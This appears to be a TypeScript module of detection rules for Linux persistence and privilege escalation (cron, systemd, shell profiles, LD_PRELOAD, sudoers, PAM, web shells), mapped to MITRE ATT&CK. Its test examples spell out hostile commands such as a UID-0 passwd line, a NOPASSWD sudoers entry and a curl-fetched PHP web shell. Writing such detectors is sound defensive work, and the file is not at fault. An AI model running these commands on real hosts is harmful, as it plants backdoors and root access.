import type { Indicator } from "../../indicator.ts";
import { calls, hasWord } from "../execution/calls.ts";
import { inContainer, onHost, opened, ran } from "../execution/examples.ts";
import { changedByEvent, writesFile } from "./written-files.ts";

/** Files that make something run by itself: cron, services, log-ins, the loader. */

const shared = { platforms: ["Linux", "Containers"], families: ["syscall"] } as const;
const written = { "evt.arg.flags": "O_CREAT|O_WRONLY", ...onHost };

export const dropsCronJob: Indicator = {
  ...shared,
  id: "drops-cron-job",
  behaviour: "changes the jobs that cron runs",
  meaning:
    "A cron job runs again and again by itself, so an intruder's program comes back after every clean-up of processes.",
  technique: "T1053.003",
  tactic: "persistence",
  severity: "high",
  certainty: "likely",
  source: "https://attack.mitre.org/techniques/T1053/003/",
  keywords: ["cron"],
  match: writesFile(
    /^(?:\/etc\/(?:cron(?:tab)?$|cron\.(?:d|daily|hourly|weekly|monthly)\/|anacrontab$|crontabs?\/)|\/etc\/crontab|\/var\/spool\/cron)/,
  ),
  examples: {
    found: [
      opened("/etc/cron.d/upd", "sh -c echo x", written),
      ran("sh -c echo '* * * * * root /tmp/x' >> /etc/crontab"),
      opened("/var/spool/cron/crontabs/root", "tee", written),
    ],
    ignored: [
      opened("/etc/cron.d/upd", "cat /etc/cron.d/upd"),
      opened("/etc/cronie.conf", "vi", written),
      ran("ls /etc/cron.d"),
    ],
  },
};

export const installsCrontab: Indicator = {
  ...shared,
  id: "installs-crontab",
  behaviour: "installs or edits a crontab with the crontab command",
  meaning:
    "A cron job runs again and again by itself, so an intruder's program comes back after every clean-up of processes.",
  technique: "T1053.003",
  tactic: "persistence",
  severity: "medium",
  certainty: "likely",
  source: "https://man7.org/linux/man-pages/man1/crontab.1.html",
  keywords: ["crontab"],
  match: calls(new Set(["crontab"]), (call) => call.args.length > 0 && !hasWord(call, "-l", "--help", "-V", "--list")),
  examples: {
    found: [ran("crontab -"), ran("crontab /tmp/c"), ran("sh -c (crontab -l; echo x) | crontab -")],
    ignored: [ran("crontab -l"), ran("crontab"), ran("cat crontab")],
  },
};

export const installsService: Indicator = {
  ...shared,
  id: "installs-service",
  behaviour: "changes a systemd unit",
  meaning: "A service starts at every boot with the rights its unit names.",
  technique: "T1543.002",
  tactic: "persistence",
  severity: "medium",
  certainty: "likely",
  source: "https://attack.mitre.org/techniques/T1543/002/",
  keywords: ["systemd"],
  match: writesFile(
    /^(?:\/etc\/systemd\/|\/(?:usr\/)?lib\/systemd\/system\/|\/run\/systemd\/system\/|\/(?:root|home\/[^/]{1,64})\/\.config\/systemd\/).{0,200}\.(?:service|socket|path|conf)$/,
  ),
  examples: {
    found: [
      opened("/etc/systemd/system/upd.service", "sh -c cat", written),
      ran("cp /tmp/x.service /etc/systemd/system/x.service"),
    ],
    ignored: [
      opened("/etc/systemd/system/upd.service", "cat"),
      opened("/etc/systemd/journald.txt", "vi", written),
      ran("systemctl status x.service"),
    ],
  },
};

export const installsTimer: Indicator = {
  ...shared,
  id: "installs-timer",
  behaviour: "changes a systemd timer",
  meaning: "A timer starts a program again and again by itself, where few look for it.",
  technique: "T1053.006",
  tactic: "persistence",
  severity: "medium",
  certainty: "likely",
  source: "https://attack.mitre.org/techniques/T1053/006/",
  keywords: [".timer"],
  match: writesFile(
    /^(?:\/etc\/systemd\/|\/(?:usr\/)?lib\/systemd\/|\/run\/systemd\/|\/(?:root|home\/[^/]{1,64})\/\.config\/systemd\/).{0,200}\.timer$/,
  ),
  examples: {
    found: [
      opened("/etc/systemd/system/upd.timer", "sh", written),
      ran("tee /etc/systemd/system/x.timer"),
      opened("/home/mira/.config/systemd/user/upd.timer", "sh", written),
    ],
    ignored: [opened("/etc/systemd/system/upd.timer", "cat"), ran("systemctl list-timers")],
  },
};

export const changesBootScript: Indicator = {
  ...shared,
  id: "changes-boot-script",
  behaviour: "changes a script that runs at boot",
  meaning: "What stands in an init script runs as root at every start.",
  technique: "T1037.004",
  tactic: "persistence",
  severity: "high",
  certainty: "likely",
  source: "https://attack.mitre.org/techniques/T1037/004/",
  keywords: ["/rc", "init", "/local.d"],
  match: writesFile(/^\/etc\/(?:rc\.local$|rc\.d\/|init\.d\/|rc[0-6S]\.d\/|inittab$|local\.d\/)/),
  examples: {
    found: [opened("/etc/rc.local", "sh", written), ran("sh -c echo /tmp/x >> /etc/init.d/net")],
    ignored: [opened("/etc/rc.local", "cat"), ran("ls /etc/init.d")],
  },
};

export const changesShellProfile: Indicator = {
  ...shared,
  id: "changes-shell-profile",
  behaviour: "changes a file that every shell reads at its start",
  meaning: "Whatever stands there runs with the rights of whoever logs in next.",
  technique: "T1546.004",
  tactic: "persistence",
  severity: "high",
  certainty: "likely",
  source: "https://attack.mitre.org/techniques/T1546/004/",
  keywords: ["profile", "shrc", "zsh", "bash_log", "environment", ".login"],
  match: writesFile(
    /(?:^\/etc\/(?:profile$|profile\.d\/|bash\.bashrc$|bashrc$|zshrc$|zsh\/|environment$)|\/\.(?:bashrc|bash_profile|bash_login|bash_logout|profile|zshrc|zprofile|zshenv|kshrc|cshrc|login)$)/,
  ),
  examples: {
    found: [
      opened("/root/.bashrc", "sh", written),
      ran("sh -c echo x >> /home/mira/.profile"),
      opened("/etc/profile.d/x.sh", "tee", written),
    ],
    ignored: [
      opened("/root/.bashrc", "bash"),
      opened("/root/.bash_history", "sh", written),
      opened("/etc/profiles.txt", "vi", written),
    ],
  },
};

export const addsAuthorizedKey: Indicator = {
  ...shared,
  id: "adds-authorized-key",
  behaviour: "changes the SSH keys that may log in",
  meaning: "Whoever adds a key logs in without a password from then on, and a new password does not lock them out.",
  technique: "T1098.004",
  tactic: "persistence",
  severity: "high",
  certainty: "likely",
  source: "https://attack.mitre.org/techniques/T1098/004/",
  keywords: ["authorized_keys"],
  match: writesFile(/\/(?:\.ssh\/authorized_keys2?$|etc\/ssh\/authorized_keys)/),
  examples: {
    found: [
      opened("/root/.ssh/authorized_keys", "sh", written),
      ran("sh -c echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys"),
    ],
    ignored: [opened("/root/.ssh/authorized_keys", "sshd"), opened("/root/.ssh/known_hosts", "ssh", written)],
  },
};

export const preloadsLibrary: Indicator = {
  ...shared,
  id: "preloads-library",
  behaviour: "makes the dynamic linker load a library into every program",
  meaning:
    "A preloaded library sees and changes what every program does: it hides files and processes and collects passwords.",
  technique: "T1574.006",
  tactic: "persistence",
  severity: "critical",
  certainty: "certain",
  source: "https://man7.org/linux/man-pages/man8/ld.so.8.html",
  keywords: ["ld.so.preload"],
  match: writesFile(/^\/etc\/ld\.so\.preload$/),
  examples: {
    found: [opened("/etc/ld.so.preload", "sh", written), ran("sh -c echo /lib/x.so > /etc/ld.so.preload")],
    ignored: [opened("/etc/ld.so.preload", "ls"), opened("/etc/ld.so.conf", "vi", written)],
  },
};

export const preloadsByEnvironment: Indicator = {
  ...shared,
  id: "preloads-by-environment",
  behaviour: "starts a program with a library of its own choice preloaded",
  meaning: "LD_PRELOAD puts foreign code into a trusted program.",
  technique: "T1574.006",
  tactic: "defense-evasion",
  severity: "high",
  certainty: "likely",
  source: "https://attack.mitre.org/techniques/T1574/006/",
  keywords: ["ld_preload", "ld_library_path", "ld_audit"],
  match(facts) {
    const settings = facts.process.command.commands.flatMap(({ environment }) => environment.map(({ value }) => value));
    const found = settings.find((value) => /^LD_(?:PRELOAD|AUDIT)=./.test(value));
    if (found && facts.process.command.text.includes(found)) return found;
    const environment = facts.process.environment ?? "";
    return (
      environment
        .split(/\s+/)
        .find((value) => /^LD_(?:PRELOAD|AUDIT)=\/(?:tmp|dev\/shm|var\/tmp|home)\//.test(value)) ?? null
    );
  },
  examples: {
    found: [
      ran("sh -c LD_PRELOAD=/tmp/x.so ls"),
      ran("env LD_PRELOAD=/dev/shm/a.so sshd"),
      ran("id", { "proc.env": "PATH=/bin LD_PRELOAD=/tmp/x.so" }),
    ],
    ignored: [
      ran("grep LD_PRELOAD /proc/1/environ"),
      ran("id", { "proc.env": "LD_PRELOAD=/usr/lib/libjemalloc.so.2" }),
    ],
  },
};

export const changesLinkerCache: Indicator = {
  ...shared,
  id: "changes-linker-cache",
  behaviour: "changes where the dynamic linker looks for libraries",
  meaning:
    "Programs would load an intruder's library in place of the real one; `ldconfig` writes the same files after every package update.",
  technique: "T1574.006",
  tactic: "persistence",
  severity: "medium",
  certainty: "weak",
  source: "https://man7.org/linux/man-pages/man8/ldconfig.8.html",
  keywords: ["ld.so."],
  match: writesFile(/^\/etc\/ld\.so\.(?:cache~?$|cache\.|conf$|conf\.d\/)/),
  examples: {
    found: [
      opened("/etc/ld.so.cache~", "ldconfig", written),
      opened("/etc/ld.so.conf.d/x.conf", "sh", written),
      { _output: "File below /etc created (user=root file=/etc/ld.so.cache~)", "fd.name": "/etc/ld.so.cache~" },
    ],
    ignored: [opened("/etc/ld.so.cache", "bash"), opened("/etc/ld.so.hwcaps.txt", "sh")],
  },
};

export const plantsHook: Indicator = {
  ...shared,
  id: "plants-hook",
  behaviour: "changes a file that another program runs at its own occasion",
  meaning:
    "Hooks of package managers, git, the network, the desktop or the message of the day run an intruder's program without a job of its own.",
  technique: "T1546",
  tactic: "persistence",
  severity: "medium",
  certainty: "likely",
  source: "https://attack.mitre.org/techniques/T1546/",
  keywords: [
    "motd",
    "conf.d",
    "cfg.d",
    "hooks",
    "plugins",
    "kernel/",
    "initramfs",
    "dispatcher",
    "if-",
    "dhclient",
    "/ip-",
    "sleep.d",
    "xsession",
    "ssh/",
    "xinitrc",
    "xprofile",
  ],
  match: writesFile(
    /^(?:\/etc\/(?:update-motd\.d\/|apt\/apt\.conf\.d\/|dpkg\/dpkg\.cfg\.d\/|dnf\/plugins\/|pacman\.d\/hooks\/|kernel\/(?:post|pre)(?:inst|rm)\.d\/|initramfs-tools\/(?:hooks|scripts)\/|NetworkManager\/dispatcher\.d\/|network\/if-(?:pre-)?(?:up|down)\.d\/|networkd-dispatcher\/|dhcp\/dhclient-(?:enter|exit)-hooks|ppp\/ip-(?:up|down)|pm\/sleep\.d\/|X11\/Xsession\.d\/|ssh\/sshrc$)|.{1,200}\/\.git\/hooks\/[^/]{1,80}$|.{1,200}\/\.(?:ssh\/rc|xinitrc|xsession|xprofile)$)/,
  ),
  examples: {
    found: [
      opened("/etc/apt/apt.conf.d/99x", "sh", written),
      ran("cp x /srv/app/.git/hooks/post-commit"),
      opened("/etc/NetworkManager/dispatcher.d/x", "sh", written),
    ],
    ignored: [opened("/etc/apt/apt.conf.d/99x", "apt-get"), opened("/etc/apt/apt.conf", "vi", written)],
  },
};

export const writesBelowEtc: Indicator = {
  ...shared,
  id: "writes-below-etc",
  behaviour: "changes a file below /etc",
  meaning: "Settings decide what runs and who may log in; what it means depends on the file.",
  technique: "T1543",
  tactic: "persistence",
  severity: "medium",
  certainty: "weak",
  source: "https://falco.org/docs/reference/rules/default-rules/",
  keywords: ["/etc/"],
  match: (facts) => changedByEvent(facts, /^\/etc\/./),
  examples: {
    found: [
      opened("/etc/nginx/conf.d/default.conf", "vim", written),
      opened("/etc/chrony/conf.d/x.conf", "python3", written),
    ],
    ignored: [opened("/etc/passwd", "cat"), opened("/var/etc/x", "sh", written)],
  },
};

export const writesStartFileOfRoot: Indicator = {
  ...shared,
  id: "writes-below-root",
  behaviour: "writes a file directly below / or into root's home",
  meaning: "Hardly any program has a reason to put files there; intruders store tools and start files in it.",
  technique: "T1546.004",
  tactic: "persistence",
  severity: "medium",
  certainty: "weak",
  source: "https://falco.org/docs/reference/rules/default-rules/",
  match: (facts) => changedByEvent(facts, /^\/(?:root\/.|[^/]{1,100}$)/),
  examples: {
    found: [opened("/root/x", "sh", written), opened("/payload", "sh", written)],
    ignored: [opened("/root/x", "cat"), opened("/tmp/x", "sh", written)],
  },
};

export const plantsWebShell: Indicator = {
  ...shared,
  id: "plants-web-shell",
  behaviour: "writes a script into a folder that a web server serves",
  meaning: "A script there runs for whoever asks for its address: a web shell.",
  technique: "T1505.003",
  tactic: "persistence",
  severity: "high",
  certainty: "likely",
  source: "https://attack.mitre.org/techniques/T1505/003/",
  keywords: ["/www", "htdocs", "public_html", "wwwroot", "share/nginx", "webapps"],
  match: writesFile(
    /\/(?:var\/www|htdocs|public_html|wwwroot|usr\/share\/nginx|srv\/www|webapps)\/.{0,200}\.(?:php\d?|phtml|phar|jspx?|war|aspx?|cgi)$/,
  ),
  examples: {
    found: [
      opened("/var/www/html/uploads/x.php", "php-fpm", { ...written, ...inContainer }),
      ran("curl -o /var/www/html/a.php http://203.0.113.5/a"),
    ],
    ignored: [opened("/var/www/html/index.php", "php-fpm"), opened("/var/www/html/logo.png", "sh", written)],
  },
};

const accountPrograms = new Set([
  "useradd",
  "adduser",
  "usermod",
  "userdel",
  "deluser",
  "groupadd",
  "addgroup",
  "groupmod",
  "gpasswd",
  "passwd",
  "chpasswd",
  "chage",
  "newusers",
  "vipw",
]);

export const managesAccounts: Indicator = {
  ...shared,
  id: "manages-accounts",
  behaviour: "creates or changes a local account",
  meaning: "An account of one's own, or rights added to one, is a way back in that looks like anybody's.",
  technique: "T1098",
  alsoTechniques: ["T1136.001"],
  tactic: "persistence",
  severity: "medium",
  certainty: "weak",
  source: "https://attack.mitre.org/techniques/T1098/",
  keywords: ["user", "group", "passwd", "chage", "vipw"],
  match: calls(
    accountPrograms,
    ({ program, args }) =>
      !isQuestion(
        program,
        args.map(({ value }) => value),
      ),
  ),
  examples: {
    found: [
      ran("groupadd google-sudoers"),
      ran("usermod -aG sudo mira"),
      ran("adduser -S x"),
      ran("sh -c echo x:y | chpasswd"),
    ],
    ignored: [ran("passwd -S mira"), ran("chage -l mira"), ran("grep useradd /var/log/auth.log")],
  },
};

/** `passwd -S` and `chage -l` only ask; `adduser -S` makes a system account. */
function isQuestion(program: string, values: readonly string[]): boolean {
  if (values.includes("--help") || values.includes("--version")) return true;
  if (program === "passwd") return values.includes("-S") || values.includes("--status");
  return program === "chage" && (values.includes("-l") || values.includes("--list"));
}

export const createsSuperuser: Indicator = {
  ...shared,
  id: "creates-superuser",
  behaviour: "gives an account root's rights",
  meaning: "A second root under another name, or membership in the administrators' group, is a back door.",
  technique: "T1136.001",
  alsoTechniques: ["T1098"],
  tactic: "persistence",
  severity: "high",
  certainty: "likely",
  source: "https://attack.mitre.org/techniques/T1136/001/",
  keywords: ["user"],
  match: calls(new Set(["useradd", "adduser", "usermod"]), (call) => {
    const values = call.args.map(({ value }) => value);
    const uid =
      values.some((value, index) => (value === "-u" || value === "--uid") && values[index + 1] === "0") ||
      values.includes("--uid=0") ||
      values.includes("-u0");
    return (
      uid ||
      (call.program === "useradd" && values.some((value) => /^(?:sudo|wheel|admin|docker|root)(?:,|$)/.test(value)))
    );
  }),
  examples: {
    found: [ran("useradd -o -u 0 support"), ran("usermod -u 0 -o mira"), ran("useradd -m -G sudo backdoor")],
    ignored: [ran("useradd -r -u 999 redis"), ran("usermod -L mira")],
  },
};

export const changesAccountFiles: Indicator = {
  ...shared,
  id: "changes-account-files",
  behaviour: "writes the files of accounts and passwords directly",
  meaning: "Tools exist for this; writing the file by hand adds accounts and passwords without a trace in their log.",
  technique: "T1098",
  alsoTechniques: ["T1136.001"],
  tactic: "persistence",
  severity: "high",
  certainty: "likely",
  source: "https://attack.mitre.org/techniques/T1098/",
  keywords: ["passwd", "shadow", "group"],
  match: writesFile(/^\/etc\/(?:passwd|shadow|group|gshadow)(?:[-+.]|$|[A-Za-z0-9]{6}$)/),
  examples: {
    found: [
      opened("/etc/passwd", "sh", written),
      ran("sh -c echo h::0:0::/:/bin/sh >> /etc/passwd"),
      opened("/etc/shadow", "tee", written),
    ],
    ignored: [opened("/etc/passwd", "id"), opened("/etc/passwd.d/x", "cat")],
  },
};

export const changesSudoers: Indicator = {
  ...shared,
  id: "changes-sudoers",
  behaviour: "changes who may act as root with sudo",
  meaning: "One line there makes any account root without a password.",
  technique: "T1548.003",
  tactic: "privilege-escalation",
  severity: "high",
  certainty: "likely",
  source: "https://attack.mitre.org/techniques/T1548/003/",
  keywords: ["sudoers", "doas.conf", "polkit"],
  match: writesFile(/^\/etc\/(?:sudoers(?:\.tmp)?$|sudoers\.d\/|doas\.conf$|polkit-1\/)/),
  examples: {
    found: [opened("/etc/sudoers", "sh", written), ran("sh -c echo 'x ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/x")],
    ignored: [
      opened("/etc/sudoers", "sudo"),
      opened("/etc/sudo.conf", "vi", written),
      ran("visudo -cf /etc/sudoers.d/x"),
    ],
  },
};

export const changesAuthentication: Indicator = {
  ...shared,
  id: "changes-authentication",
  behaviour: "changes how log-ins are checked",
  meaning: "A changed PAM module or SSH setting accepts a secret password or writes down those of others.",
  technique: "T1556.003",
  tactic: "persistence",
  severity: "high",
  certainty: "likely",
  source: "https://attack.mitre.org/techniques/T1556/003/",
  keywords: ["pam", "sshd_config", "nsswitch"],
  match: writesFile(
    /^\/(?:etc\/pam\.d\/|etc\/pam\.conf$|(?:usr\/)?lib(?:64)?\/(?:[\w-]{1,40}\/)?security\/pam_[\w-]{1,40}\.so$|etc\/ssh\/sshd_config|etc\/nsswitch\.conf$)/,
  ),
  examples: {
    found: [
      opened("/etc/pam.d/sshd", "sh", written),
      opened("/lib/x86_64-linux-gnu/security/pam_unix.so", "cp", written),
    ],
    ignored: [opened("/etc/pam.d/sshd", "sshd"), opened("/etc/ssh/ssh_config", "vi", written)],
  },
};
